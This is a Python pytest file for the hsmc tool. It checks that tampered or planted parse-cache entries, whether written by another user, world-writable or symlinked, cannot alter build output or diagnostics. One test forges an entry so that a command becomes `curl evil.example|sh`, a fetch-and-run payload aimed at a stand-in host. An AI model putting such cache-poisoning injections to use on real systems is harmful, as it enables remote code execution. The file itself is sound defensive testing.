"""A planted parse cache entry changes nothing (issues 14.13, 22.2): whatever an entry of another
user (or one others can write) holds, a build with the cache gives the same exit code, output
and diagnostics as a build without it. And verify.py's checks, which the fast path's trees
pass (parse/fast.py): they accept what parsing gives and refuse a tree that is not the file's."""

from __future__ import annotations

import copy
import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from hsmc.cli import main
from hsmc.errors import Collector
from hsmc.parse import load
from hsmc.parse.schema import SCHEMAS
from hsmc.parse.shapes import (
    SHAPES,
    Anything,
    Either,
    Empty,
    Fields,
    MapOf,
    Scalar,
    SeqOf,
    Shape,
    conforms,
)
from hsmc.parse.source import SourceFile
from hsmc.parse.tree import Node
from hsmc.parse.verify import trustworthy
from tests.conftest import GOLDEN, ROOT, copy_case, run_hsmc, write_project

Json = Any  # one cache entry's tree, as JSON: [line, col, key_line, key_col, value]


def _shape_of(validator: Any) -> Shape:
    """The shapes.py form of a strictyaml validator."""
    name = type(validator).__name__
    if name == "OrValidator":
        return Either(_shape_of(validator._validator_a), _shape_of(validator._validator_b))
    simple: dict[str, Shape] = {
        "Str": Scalar(str),
        "Int": Scalar(int),
        "Bool": Scalar(bool),
        "EmptyDict": Empty(dict),
        "EmptyList": Empty(list),
        "Any": Anything(),
    }
    if name in simple:
        return simple[name]
    if name == "Enum":
        return Scalar(str, tuple(validator._restricted_to))
    if name == "Seq":
        return SeqOf(_shape_of(validator._validator))
    if name == "MapPattern":
        assert type(validator._key_validator).__name__ == "Str"
        return MapOf(
            _shape_of(validator._value_validator),
            validator._minimum_keys or 1,
            validator._maximum_keys,
        )
    assert name == "Map", name
    fields = {str(k): _shape_of(v) for k, v in validator._validator_dict.items()}
    return Fields(fields, frozenset(str(k) for k in validator._required_keys))


@pytest.mark.parametrize("kind", sorted(SCHEMAS))
def test_the_cache_shapes_are_the_strictyaml_schemas(kind: str) -> None:
    assert _canonical(_shape_of(SCHEMAS[kind])) == _canonical(SHAPES[kind])


def _canonical(shape: Any) -> Any:
    """A shape as nested tuples that name their class (NamedTuples compare as plain tuples),
    the fields of a mapping sorted."""
    if isinstance(shape, dict):
        return tuple(sorted((key, _canonical(value)) for key, value in shape.items()))
    if isinstance(shape, tuple):
        return (type(shape).__name__, *(_canonical(part) for part in shape))
    if isinstance(shape, frozenset):
        return tuple(sorted(shape))
    return shape


def _input_files() -> list[tuple[Path, str]]:
    """The YAML inputs of golden/, registry/ and examples/ (not those past the limits)."""
    roots = [GOLDEN, ROOT / "registry", ROOT / "examples"]
    found = []
    for path in sorted(p for root in roots for p in root.rglob("*.yaml")):
        kind = "manifest" if path.name == "hsm.yaml" else path.parent.name
        past_limits = any(part.startswith("HSM013-") for part in path.parts)
        if kind in SHAPES and "expected" not in path.parts and not past_limits:
            found.append((path, kind))
    return found


def test_every_valid_input_file_passes_verify() -> None:
    """The checks of verify.py accept what parsing gives (the fast path declines nothing that
    libyaml read as strictyaml would)."""
    trusted = 0
    for path, kind in _input_files():
        try:
            text = path.read_text(encoding="utf-8")
        except UnicodeDecodeError:
            continue  # an error case
        source = SourceFile(path=path, shown=str(path), text=text)
        tree = load._validate(source, kind, Collector())
        if tree is None:
            continue  # an error case
        stored = Node.from_json(json.loads(json.dumps(tree.to_json())))
        assert trustworthy(stored, kind, source.lines), path
        trusted += 1
    assert trusted > 150


# --- tampering: every way an entry can lie ---------------------------------------------------


def _nodes(tree: Json) -> list[Json]:
    """Every node of a JSON tree, depth first."""
    value = tree[4]
    children = []
    if isinstance(value, dict):
        children = [c for _, c in value["m"]] if "m" in value else value["s"]
    return [tree, *(n for c in children for n in _nodes(c))]


def _mappings(tree: Json) -> list[list[Json]]:
    return [n[4]["m"] for n in _nodes(tree) if isinstance(n[4], dict) and "m" in n[4]]


def _wrong_types(tree: Json, _: Json) -> None:
    for node in _nodes(tree):
        value = node[4]
        if isinstance(value, bool):
            node[4] = "yes"
        elif isinstance(value, int):
            node[4] = str(value)
        elif isinstance(value, str) and value:
            node[4] = {"s": [[node[0], node[1], node[2], node[3], value]]}


def _out_of_range(tree: Json, _: Json) -> None:
    for node in _nodes(tree):
        node[0] += 10_000
        node[2] += 10_000


def _column_zero(tree: Json, _: Json) -> None:
    for node in _nodes(tree):
        node[1] = node[3] = 0


def _reordered(tree: Json, _: Json) -> None:
    for pairs in _mappings(tree):
        pairs.reverse()


def _dropped_key(tree: Json, _: Json) -> None:
    pairs = tree[4]["m"]
    del pairs[-1 if len(pairs) > 1 else 0]


def _changed_values(tree: Json, _: Json) -> None:
    for node in _nodes(tree):
        if isinstance(node[4], str) and node[4]:
            node[4] = node[4] + "x"


def _renamed(tree: Json, _: Json) -> None:
    for key, child in tree[4]["m"]:
        if key == "name":
            child[4] = "someone-else"


def _duplicate_key(tree: Json, _: Json) -> None:
    tree[4]["m"].append(copy.deepcopy(tree[4]["m"][0]))


def _no_name(tree: Json, _: Json) -> None:
    tree[4]["m"] = [pair for pair in tree[4]["m"] if pair[0] != "name"]


def _another_files_tree(tree: Json, other: Json) -> None:
    tree[:] = copy.deepcopy(other)


_TREE_TAMPERING: dict[str, Callable[[Json, Json], None]] = {
    "wrong-types": _wrong_types,
    "spans-out-of-range": _out_of_range,
    "column-zero": _column_zero,
    "keys-reordered": _reordered,
    "key-dropped": _dropped_key,
    "values-changed": _changed_values,
    "renamed": _renamed,
    "duplicate-key": _duplicate_key,
    "no-name": _no_name,
    "another-files-tree": _another_files_tree,
}


def _tamper(cache: Path, how: str) -> None:
    """Rewrites every entry of the cache."""
    entries = sorted(cache.rglob("*.json"))
    documents = [json.loads(p.read_text(encoding="utf-8")) for p in entries]
    for index, (path, document) in enumerate(zip(entries, documents, strict=True)):
        other = documents[(index + 1) % len(documents)]
        if how == "wrong-shape-json":
            document["tree"] = {"m": [["name", "x"]]}
        elif how == "another-files-entry":
            document = other  # its own identity: the key of another file
        elif how == "other-identity":
            document["identity"] = other["identity"]
        else:
            _TREE_TAMPERING[how](document["tree"], other["tree"])
        path.write_text(json.dumps(document), encoding="utf-8")


def _entries(cache: Path) -> dict[Path, Json]:
    return {p: json.loads(p.read_text(encoding="utf-8")) for p in cache.rglob("*.json")}


def _build(project: Path, cache: Path | None) -> tuple[int, str, str, str, dict[str, bytes]]:
    """Exit code, stdout, stderr, exception and files of a build into a fresh `out/` beside the
    project (always the same path: install.sh names its directory)."""
    out = project.parent / "out"
    shutil.rmtree(out, ignore_errors=True)
    args = ["build", str(project), "-o", str(out)] + ([] if cache else ["--no-cache"])
    env = {"NO_COLOR": "1", "HSMC_CACHE_DIR": str(cache or project.parent / "unused-cache")}
    result = CliRunner().invoke(main, args, env=env)
    files = {p.relative_to(out).as_posix(): p.read_bytes() for p in out.rglob("*") if p.is_file()}
    return result.exit_code, result.stdout, result.stderr, repr(result.exception), files


def _break_in_validate(project: Path) -> None:
    """A mistake found after parsing (an unknown implied container), so that a tampered cache
    could change the diagnostics."""
    entry = project / "registry" / "packages" / "qdrant-client.yaml"
    entry.write_text(entry.read_text().replace("container:qdrant", "container:qdrantt"))


def _chown_entries(cache: Path) -> None:
    for entry in cache.rglob("*.json"):
        os.chown(entry, NOBODY, NOBODY)


def _chmod(paths: list[Path], mode: int) -> None:
    for path in paths:
        path.chmod(mode)


def _symlinked_entries(cache: Path) -> None:
    """Each entry moved out of the cache and a symlink to it left in its place."""
    elsewhere = cache.parent / "elsewhere"
    elsewhere.mkdir(exist_ok=True)
    for entry in cache.rglob("*.json"):
        entry.rename(elsewhere / entry.name)
        entry.symlink_to(elsewhere / entry.name)


NOBODY = 65534
# How an entry gets into a cache that is not this user's alone; True: hsmc may rewrite the
# entry (its directory is still private), False: it leaves the directory alone
PLANTED: dict[str, tuple[Callable[[Path], None], bool]] = {
    "entry of another user": (_chown_entries, True),
    "entry others can write": (lambda c: _chmod(list(c.rglob("*.json")), 0o606), True),
    "entry the group can write": (lambda c: _chmod(list(c.rglob("*.json")), 0o660), True),
    "entry a symlink": (_symlinked_entries, True),
    "directory others can write": (lambda c: _chmod([*c.glob("??")], 0o777), False),
    "cache directory others can write": (lambda c: _chmod([c], 0o1777), False),
}
# chown needs root; as any other user the entries are planted by making them writable by all
_PLANT = "entry of another user" if os.geteuid() == 0 else "entry others can write"


def _tampered_build(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, how: str, broken: bool, planted: str
) -> None:
    project = copy_case("04-hybrid-stack", tmp_path)
    if broken:
        _break_in_validate(project)
    monkeypatch.chdir(project)
    reference = _build(project, None)
    assert reference[0] == (1 if broken else 0), reference[2]
    cache = tmp_path / "cache"
    _build(project, cache)
    originals = _entries(cache)
    assert len(originals) >= 5  # hsm.yaml, entries of the project and built-in ones
    _tamper(cache, how)
    tampered = _entries(cache)
    plant, rewritten = PLANTED[planted]
    plant(cache)
    assert _build(project, cache) == reference
    # every planted entry was refused, so its file was parsed afresh and the entry rewritten
    # where the cache is still this user's alone, else left as it was
    assert _entries(cache) == (originals if rewritten else tampered)


@pytest.mark.parametrize("broken", [False, True], ids=["valid", "broken"])
@pytest.mark.parametrize(
    "how", ["wrong-shape-json", "another-files-entry", "other-identity", *_TREE_TAMPERING]
)
def test_a_planted_entry_changes_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, how: str, broken: bool
) -> None:
    """Every way an entry can lie, planted by another user: the same exit code, output and
    diagnostics as without the cache."""
    _tampered_build(tmp_path, monkeypatch, how, broken, _PLANT)


@pytest.mark.parametrize("planted", sorted(PLANTED))
def test_an_entry_is_read_only_from_a_cache_of_this_users_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, planted: str
) -> None:
    """The entry, its directory and the cache directory: this user's, writable by nobody else,
    no symlink (as a build stamp is read)."""
    if planted == "entry of another user" and os.geteuid() != 0:
        pytest.skip("files of another user need root to create (os.chown)")
    _tampered_build(tmp_path, monkeypatch, "values-changed", False, planted)


_ISSUE_22 = {
    "hsm.yaml": "services:\n  container_groups:\n    hello:\n      selection: hello\n",
    "registry/containers/hello.yaml": (
        'name: hello\nimage: busybox:1.36\ncommand: "echo \\"hello\\""\n'
    ),
}


@pytest.mark.parametrize("planted", ["entry of another user", "entry others can write"])
def test_the_forged_entry_of_issue_22_changes_nothing(tmp_path: Path, planted: str) -> None:
    """Issue 22, item 2, as reported: a shared HSMC_CACHE_DIR, an entry of another user edited
    to turn `echo "hello"` (a double-quoted scalar with escapes, which no check of the text
    can compare without a YAML scanner) into `echo "curl evil.example|sh"`; `--no-cache
    --check` must find the build's output exactly as it would be without the cache."""
    if planted == "entry of another user" and os.geteuid() != 0:
        pytest.skip("files of another user need root to create (os.chown)")
    project = write_project(tmp_path / "project", _ISSUE_22)
    env = {"HSMC_CACHE_DIR": str(tmp_path / "cache")}
    assert run_hsmc("build", "--no-cache", "-o", "first", cwd=project, env=env).returncode == 0
    assert run_hsmc("build", "-o", "warm", cwd=project, env=env).returncode == 0
    forged = 0
    for entry in (tmp_path / "cache").rglob("*.json"):
        text = entry.read_text()
        if '"echo \\"hello\\""' in text:
            entry.write_text(text.replace('echo \\"hello\\"', 'echo \\"curl evil.example|sh\\"'))
            forged += 1
    assert forged == 1
    PLANTED[planted][0](tmp_path / "cache")
    built = run_hsmc("build", "-o", "out", cwd=project, env=env)
    assert built.returncode == 0, built.stderr
    compose = (project / "out" / "docker-compose.yml").read_text()
    assert "evil.example" not in compose and 'echo \\"hello\\"' in compose
    check = run_hsmc("build", "--no-cache", "--check", "-o", "out", cwd=project, env=env)
    assert check.returncode == 0, check.stdout + check.stderr


def test_a_trusted_entry_is_used(tmp_path: Path) -> None:
    """A warm build hits for every file, and uses an entry of this user's as it is: its tree
    is not compared with the file's text again (decisions.md, "Parse cache": only this user can
    have written it). So an entry this user edits by hand is what the build uses, as an output
    this user edits by hand is what compose runs."""
    project = copy_case("04-hybrid-stack", tmp_path)
    cache = tmp_path / "cache"
    _build(project, cache)
    stamps = {p: p.stat().st_mtime_ns for p in cache.rglob("*.json")}
    calls: list[str] = []
    with pytest.MonkeyPatch.context() as patch:
        validate = load._validate

        def recording(source: SourceFile, kind: str, out: Collector) -> Node | None:
            calls.append(source.shown)
            return validate(source, kind, out)

        patch.setattr(load, "_validate", recording)
        assert _build(project, cache)[0] == 0
    assert calls == []
    assert {p: p.stat().st_mtime_ns for p in cache.rglob("*.json")} == stamps
    _tamper(cache, "values-changed")  # as this user: private still
    assert _build(project, cache) != _build(project, None)


# --- the checks against every style of YAML a file may use -----------------------------------

STYLES = {
    "crlf": "name: x\r\nimage: y:1\r\nenv:\r\n  A: b\r\n",
    "cr": "name: x\rimage: y:1\r",
    "block": "name: x\ncommand: |\n  echo a: b\n  - not an item\n\n  done\nimage: y:1\n"
    "healthcheck:\n  test: >-\n    folded\n    text\n  retries: 3\n",
    "folded-plain": "name: x\ndescription: a long\n  description over\n  three lines\nimage: y:1\n",
    "quoted-multiline": 'name: x\ndescription: "a long\n  quoted"\nenv:\n'
    "  A: 'it''s\n    here'\n",
    "escapes": 'name: x\nimage: "y:\\u0031"\nenv:\n  A: "tab\\there"\n',
    "comments": "# top\nname: x   # trailing\nimage: y:1 # c\n\n  # indented\nenv:\n"
    "  # inside\n  A: b#not-a-comment\n",
    "document-start": "---\nname: x\nimage: y:1\n",
    "quoted-keys": "name: x\nimage: y:1\nenv:\n  \"A\": b\n  'B': c\n",
    "lists": 'name: x\nimage: y:1\nports:\n- "1:1"\n-   "2:2"\ncommand:\n  - a\n  -\n    b\n',
    "numbers-and-booleans": "name: x\nport: 0080\nhealthcheck:\n  retries: 1_0\n  disable: Yes\n",
    "quoted-numbers": "name: x\nport: '80'\nhealthcheck:\n  retries: \"3\"\n  disable: 'no'\n",
    "empty-values": "name: x\nimage: y:1\nenv:\nimplies:\n  container:a:\n  container:b:\n"
    "    params:\n",
    "value-on-next-line": "name: x\nimage:\n  y:1\n",
    "unicode": 'name: x\nimage: y:1\ndescription: café ☕ 🐍\nenv:\n  A: "🐍"\n',
    "trailing-spaces": "name: x   \nimage: y:1\nenv:   \n  A: b  \n",
}


def _parsed(text: str) -> tuple[SourceFile, Json]:
    source = SourceFile(path=Path("x.yaml"), shown="x.yaml", text=text)
    tree = load._validate(source, "containers", Collector())
    assert tree is not None
    return source, json.loads(json.dumps(tree.to_json()))


@pytest.mark.parametrize("style", sorted(STYLES))
def test_every_style_of_yaml_is_trusted(style: str) -> None:
    source, tree = _parsed(STYLES[style])
    assert trustworthy(Node.from_json(tree), "containers", source.lines)


def _without(tree: Json, path: tuple[int, ...]) -> Json:
    """A copy of the tree without the key or item at `path` (indices from the root)."""
    tampered = copy.deepcopy(tree)
    holder = tampered
    for index in path[:-1]:
        value = holder[4]
        holder = value["m"][index][1] if "m" in value else value["s"][index]
    value = holder[4]
    del (value["m"] if "m" in value else value["s"])[path[-1]]
    return tampered


def _paths(tree: Json, prefix: tuple[int, ...] = ()) -> list[tuple[int, ...]]:
    value = tree[4]
    if not isinstance(value, dict):
        return []
    children = [c for _, c in value["m"]] if "m" in value else value["s"]
    return [p for i, c in enumerate(children) for p in [(*prefix, i), *_paths(c, (*prefix, i))]]


@pytest.mark.parametrize("style", sorted(STYLES))
def test_a_tree_missing_any_key_or_item_is_refused(style: str) -> None:
    """Also after a block or multi-line scalar, whose lines are taken on trust."""
    source, tree = _parsed(STYLES[style])
    refused = 0
    for path in _paths(tree):
        tampered = Node.from_json(_without(tree, path))
        if conforms(tampered, SHAPES["containers"]):  # else refused for its shape already
            assert not trustworthy(tampered, "containers", source.lines), path
            refused += 1
    assert refused
